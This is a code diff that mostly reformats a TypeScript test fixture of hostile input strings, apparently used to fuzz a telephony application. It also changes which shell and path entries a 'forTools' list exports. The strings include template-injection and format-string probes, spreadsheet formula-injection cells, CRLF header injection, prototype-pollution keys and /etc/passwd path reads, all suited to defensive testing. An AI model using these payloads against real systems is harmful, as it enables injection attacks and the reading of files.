@@ -81,7 +81,22 @@ const path = [
   'concat:/etc/passwd',
   'http://127.0.0.1:1/pwned',
 ];
-const format = ['%s%s%s%s%s', '%n%n%n%n', '%x%x%x%x', '%d', '%1$s', '%99999999s', '%p', '{0}', '{}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', '${7*7}', '{{constructor.constructor("pwned")()}}'];
+const format = [
+  '%s%s%s%s%s',
+  '%n%n%n%n',
+  '%x%x%x%x',
+  '%d',
+  '%1$s',
+  '%99999999s',
+  '%p',
+  '{0}',
+  '{}',
+  '{{7*7}}',
+  '#{7*7}',
+  '<%= 7*7 %>',
+  '${7*7}',
+  '{{constructor.constructor("pwned")()}}',
+];
 const lines = [
   'x\r\nInjected: pwned',
   'x\nInjected: pwned',
@@ -142,7 +157,7 @@ const cells = [
   "=cmd|' /C calc'!A0",
   '=1+1',
   '=HYPERLINK("http://127.0.0.1/pwned","x")',
-  "=IMPORTXML(CONCAT(\"http://127.0.0.1/\"; A1); \"//pwned\")",
+  '=IMPORTXML(CONCAT("http://127.0.0.1/"; A1); "//pwned")',
   '+1+1',
   '+cmd|pwned',
   '-1+1',
@@ -237,8 +252,39 @@ const unicode = [
   '\u115f',
   'раураl',
 ];
-const long = ['a'.repeat(201), 'ы'.repeat(300), '😀'.repeat(1_001), '1'.repeat(400), '('.repeat(2_000), '"'.repeat(999), ';'.repeat(500), 'x'.repeat(100_000), '7'.repeat(100_000), `+7${'9'.repeat(65_536)}`, ' '.repeat(5_000), '{'.repeat(3_000), '[['.repeat(1_500)];
-const csv = ['"', '""', '"""', 'a"b', '"a', 'a"', '"a";"b"', ';', ',', '\t', ';;;;', 'a;b;c', '"\n"', '"a\r\nb"', '\\"', "\\\\;"];
+const long = [
+  'a'.repeat(201),
+  'ы'.repeat(300),
+  '😀'.repeat(1_001),
+  '1'.repeat(400),
+  '('.repeat(2_000),
+  '"'.repeat(999),
+  ';'.repeat(500),
+  'x'.repeat(100_000),
+  '7'.repeat(100_000),
+  `+7${'9'.repeat(65_536)}`,
+  ' '.repeat(5_000),
+  '{'.repeat(3_000),
+  '[['.repeat(1_500),
+];
+const csv = [
+  '"',
+  '""',
+  '"""',
+  'a"b',
+  '"a',
+  'a"',
+  '"a";"b"',
+  ';',
+  ',',
+  '\t',
+  ';;;;',
+  'a;b;c',
+  '"\n"',
+  '"a\r\nb"',
+  '\\"',
+  '\\\\;',
+];
 const json = [
   '__proto__',
   'constructor',
@@ -261,8 +307,29 @@ const json = [
   '\\u0000',
   '"}, "pwned": {"',
 ];
-const icu = ['{', '}', '{name}', "{name, plural, one {# pwned} other {# pwned}}", "'{name}'", '{0, number}', '{name, select, other {{pwned}}}', '{,}', '#', "''{"];
-const urls = ['//pwned', 'https://pwned@127.0.0.1', 'sip:pwned@127.0.0.1', 'sips:pwned', 'tel:+79161230000;ext=pwned', 'data:,pwned', '?pwned=1&pwned=2', '#pwned', 'ws://pwned'];
+const icu = [
+  '{',
+  '}',
+  '{name}',
+  '{name, plural, one {# pwned} other {# pwned}}',
+  "'{name}'",
+  '{0, number}',
+  '{name, select, other {{pwned}}}',
+  '{,}',
+  '#',
+  "''{",
+];
+const urls = [
+  '//pwned',
+  'https://pwned@127.0.0.1',
+  'sip:pwned@127.0.0.1',
+  'sips:pwned',
+  'tel:+79161230000;ext=pwned',
+  'data:,pwned',
+  '?pwned=1&pwned=2',
+  '#pwned',
+  'ws://pwned',
+];
 const numbers = [
   '8(916)1230001@pwned',
   '+79161230002/pwned',
@@ -299,7 +366,33 @@ const numbers = [
 
 /** All of them, each once. */
 export const hostile: readonly string[] = [
-  ...new Set([sql, shell, path, format, lines, ami, dialplan, config, cells, browser, unicode, long, csv, json, icu, urls, numbers].flat()),
+  ...new Set(
+    [
+      sql,
+      shell,
+      path,
+      format,
+      lines,
+      ami,
+      dialplan,
+      config,
+      cells,
+      browser,
+      unicode,
+      long,
+      csv,
+      json,
+      icu,
+      urls,
+      numbers,
+    ].flat(),
+  ),
 ];
 /** Those that a command line or a sound tool would act upon. */
-export const forTools: readonly string[] = [...shell, ...path.slice(0, 8), ...unicode.slice(0, 3), '<speak><audio src="/etc/passwd"/></speak>', '[[pwned]]'];
+export const forTools: readonly string[] = [
+  ...shell.slice(1, 4),
+  ...shell.slice(10, 15),
+  ...path.slice(3, 5),
+  '<speak><audio src="/etc/passwd"/></speak>',
+  '[[pwned]]',
+];
